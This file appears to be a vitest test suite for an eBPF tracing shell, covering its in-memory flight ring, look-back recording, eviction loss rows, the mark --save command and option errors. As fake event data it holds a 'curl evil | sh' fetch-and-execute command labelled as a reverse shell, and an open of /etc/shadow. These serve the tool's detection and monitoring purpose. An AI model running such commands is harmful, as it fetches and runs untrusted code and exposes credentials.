import Database from 'better-sqlite3';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanup } from 'ink-testing-library';
import type { TraceEvent } from '../../src/event/index.js';
import { CaptureReader, isLookBack } from '../../src/store/index.js';
import { FlightRing, ringBytesOf, recorderCaptureFactory } from '../../src/session/index.js';
import { execEvent, openEvent } from './fake-engine.js';
import { renderShell, settle, until } from './render-shell.js';

afterEach(() => cleanup());

const monoNs = () => Number(process.hrtime.bigint());
/** A fake event stamped now, on the kernel's clock (the ring bounds by time). */
const now = (e: TraceEvent): TraceEvent => ({ ...e, ts: monoNs() });
const tmp = () => mkdtempSync(join(tmpdir(), 'ebpfsh-lookback-'));

function shellWithRing(maxBytes = 1 << 30) {
  const ring = new FlightRing({ maxNs: 600e9, maxBytes });
  return { ring, ...renderShell({ rows: 40, captureFactory: recorderCaptureFactory, ring }) };
}

function read<T>(file: string, f: (r: CaptureReader, sql: (q: string) => unknown[][]) => T): T {
  const r = CaptureReader.open(file);
  const db = new Database(file, { readonly: true });
  try {
    return f(r, (q) => db.prepare(q).raw().all() as unknown[][]);
  } finally {
    db.close();
    r.close();
  }
}

describe('the flight ring in the shell (real capture store, fake engine)', () => {
  it('record --since begins the capture with the events before it, the journal marking the look-back window', async () => {
    const file = join(tmp(), 'before.db');
    const { command, frame, engine, model } = shellWithRing();
    await command('attach exec');
    await command('attach open');
    const before = now(execEvent({ pid: 4001, argv: ['/bin/true', 'lookback-marker'] }));
    engine.emit([before, now(openEvent({ pid: 4001, path: '/etc/shadow' }))]);
    await command('detach open');
    model.sampleCounters();
    await settle();
    expect(frame().split('\n')[0]).toMatch(/ │ ring \d+s/);
    await command(`record ${file} --since 2m`);
    await until(() => frame().includes('recording to'), 5000, 'recording');
    expect(frame()).toMatch(/took 2 events from the ring \(since \d\d:\d\d:\d\d\)/);
    const live = now(execEvent({ pid: 4002, argv: ['/bin/true', 'live'] }));
    engine.emit([live]);
    await command('stop');
    await until(() => frame().includes('stopped:'), 5000, 'stop');

    read(file, (r, sql) => {
      const info = r.info();
      expect(info.counts.exec).toBe(2);
      expect(info.counts.open).toBe(1);
      expect(info.startNs).toBeLessThanOrEqual(before.ts); // the capture begins with its look-back
      const argv = sql('SELECT argv FROM exec ORDER BY ts').map((x) => x[0]);
      expect(argv).toEqual(['["/bin/true","lookback-marker"]', '["/bin/true","live"]']);
      const journal = r.journal();
      const start = journal.find((j) => j.action === 'start')!;
      expect(start.ts).toBe(info.startNs);
      expect(String(start.detail)).toMatch(/look-back until \d+: .* came from the shell's in-memory ring, recording began at \d+/);
      const look = journal.filter((j) => isLookBack(j)).map((j) => `${j.action} ${j.probe}`);
      expect(look).toEqual(['attach execsnoop', 'attach opensnoop', 'detach opensnoop']);
      // every look-back row lies before the live rows, and within the window
      const firstLive = journal.find((j) => j.action === 'attach' && !isLookBack(j))!;
      for (const j of journal.filter((x) => isLookBack(x))) {
        expect(j.ts).toBeGreaterThanOrEqual(info.startNs);
        expect(j.ts).toBeLessThan(firstLive.ts);
      }
      expect(journal.filter((j) => !isLookBack(j) && j.action === 'attach').map((j) => j.probe)).toContain('execsnoop');
      expect(info.losses.filter((l) => l.cause === 'ring_evicted')).toEqual([]);
    });
  });

  it('what the ring evicted inside the window is a loss row, never silently absent', async () => {
    const file = join(tmp(), 'evicted.db');
    const one = ringBytesOf(now(openEvent({ pid: 1, path: '/tmp/x0' })));
    const { command, frame, engine, ring, model } = shellWithRing(one * 3);
    await command('attach open');
    for (let i = 0; i < 5; i++) engine.emit([now(openEvent({ pid: 1, path: `/tmp/x${i}` }))]);
    expect(ring.stats()).toMatchObject({ events: 3, evicted: 2 });
    await command(`record ${file} --since all`);
    await until(() => frame().includes('recording to'), 5000, 'recording');
    const said = model.transcript.map((l) => l.text).join('\n');
    expect(said).toContain('took 3 events from the ring');
    expect(said).toContain('2 the ring had evicted in that window are recorded as lost (ring_evicted)');
    await command('stop');
    await until(() => frame().includes('stopped:'), 5000, 'stop');
    read(file, (_r, sql) => {
      expect(sql('SELECT path FROM open ORDER BY ts').map((x) => x[0])).toEqual(['/tmp/x2', '/tmp/x3', '/tmp/x4']);
      const lost = sql("SELECT probe, sum(count), min(start_ns) >= (SELECT start_ns FROM capture) FROM losses WHERE cause = 'ring_evicted' GROUP BY probe");
      expect(lost).toEqual([['opensnoop', 2, 1]]);
    });
  });

  it('mark --save writes the minutes before the mark to a finished capture, the note at its end', async () => {
    const dir = tmp();
    const file = join(dir, 'marked.db');
    const { command, frame, engine } = shellWithRing();
    await command('attach exec');
    engine.emit([now(execEvent({ pid: 4100, argv: ['/bin/sh', '-c', 'curl evil | sh'] }))]);
    await command(`mark "reverse shell seen" --save ${file} --since 1m`);
    await until(() => frame().includes('saved'), 5000, 'save');
    expect(frame()).toMatch(/marked: reverse shell seen; saved .*marked\.db, 1 events/);
    expect(engine.attachments().map((a) => a.probe.name)).toEqual(['execsnoop']); // the capture's own probe is gone again
    read(file, (r, sql) => {
      const info = r.info();
      expect(info.cleanStop).toBe(true);
      expect(info.counts.exec).toBe(1);
      const notes = r.notes();
      expect(notes.map((n) => n.text)).toEqual(['reverse shell seen']);
      expect(notes[0]!.ts).toBeGreaterThan(sql('SELECT max(ts) FROM exec')[0]![0] as number);
      expect(r.journal().filter((j) => isLookBack(j)).map((j) => `${j.action} ${j.probe}`)).toEqual(['attach execsnoop']);
    });
    // the default reach is 5 minutes
    await command(`mark "again" --save ${join(dir, 'default.db')}`);
    await until(() => /saved .*default\.db/.test(frame()), 5000, 'save');
    read(join(dir, 'default.db'), (r) => expect(r.info().counts.exec).toBe(1));
  });

  it('refuses bad options with one line, and starts nothing', async () => {
    const dir = tmp();
    const { command, frame, model } = shellWithRing();
    const last = () => model.transcript.at(-1)!;
    const cases: [string, RegExp][] = [
      [`record ${dir}/a.db --since 20m`, /the ring keeps 10m \(EBPFSH_RING_MINUTES\): use --since 10m or less, or --since all/],
      [`record ${dir}/a.db --since soon`, /--since takes a duration such as 90s, 5m or 1h, or all \(the whole ring\), not 'soon'/],
      [`record ${dir}/a.db --bogus 1`, /unknown option --bogus \(usage: record <file\.db> \[--since 5m\|all\] \[--collect-binaries\] \[--sign KEYFILE\]\)/],
      [`record ${dir}/a.db --since`, /--since needs a value/],
      [`record ${dir}/a.db --since 1m --since 2m`, /--since given twice/],
      [`mark saw it --save ${dir}/b.db`, /quote the mark's text when giving options/],
      [`mark "x" --since 1m`, /--since goes with --save/],
    ];
    for (const [line, msg] of cases) {
      await command(line);
      await until(() => last().tone !== 'echo', 5000, line);
      expect(last(), line).toMatchObject({ tone: 'error' });
      expect(last().text, line).toMatch(msg);
    }
    expect(model.ctx.capture.current()).toBeNull();
    await command('mark "plain note"');
    await until(() => frame().includes('not recording'), 5000, 'mark');
  });

  it(':help record and :help mark explain the look-back', async () => {
    const { command, model } = shellWithRing();
    await command('help record');
    await until(() => model.pane.kind === 'pager', 5000, 'help');
    const rec = (model.pane as { lines: string[] }).lines.join('\n');
    expect(rec).toContain(':record <file.db> [--since 5m|all]');
    expect(rec).toMatch(/EBPFSH_RING_MINUTES, default 10, and EBPFSH_RING_MB, default 32/);
    expect(rec).toContain('ring_evicted');
    await command('help mark');
    await until(() => (model.pane as { title?: string }).title?.startsWith('help mark') ?? false, 5000, 'help mark');
    expect((model.pane as { lines: string[] }).lines.join('\n')).toMatch(/--save FILE writes a new, finished capture of the window before the mark/);
  });

  it('without --since a capture has no look-back', async () => {
    const file = join(tmp(), 'plain.db');
    const { command, frame, engine } = shellWithRing();
    await command('attach exec');
    engine.emit([now(execEvent({ pid: 4200 }))]);
    await command(`record ${file}`);
    await until(() => frame().includes('recording to'), 5000, 'recording');
    expect(frame()).not.toContain('from the ring');
    await command('stop');
    await until(() => frame().includes('stopped:'), 5000, 'stop');
    read(file, (r) => {
      expect(r.info().counts.exec ?? 0).toBe(0);
      expect(r.journal().filter((j) => isLookBack(j))).toEqual([]);
    });
  });
});
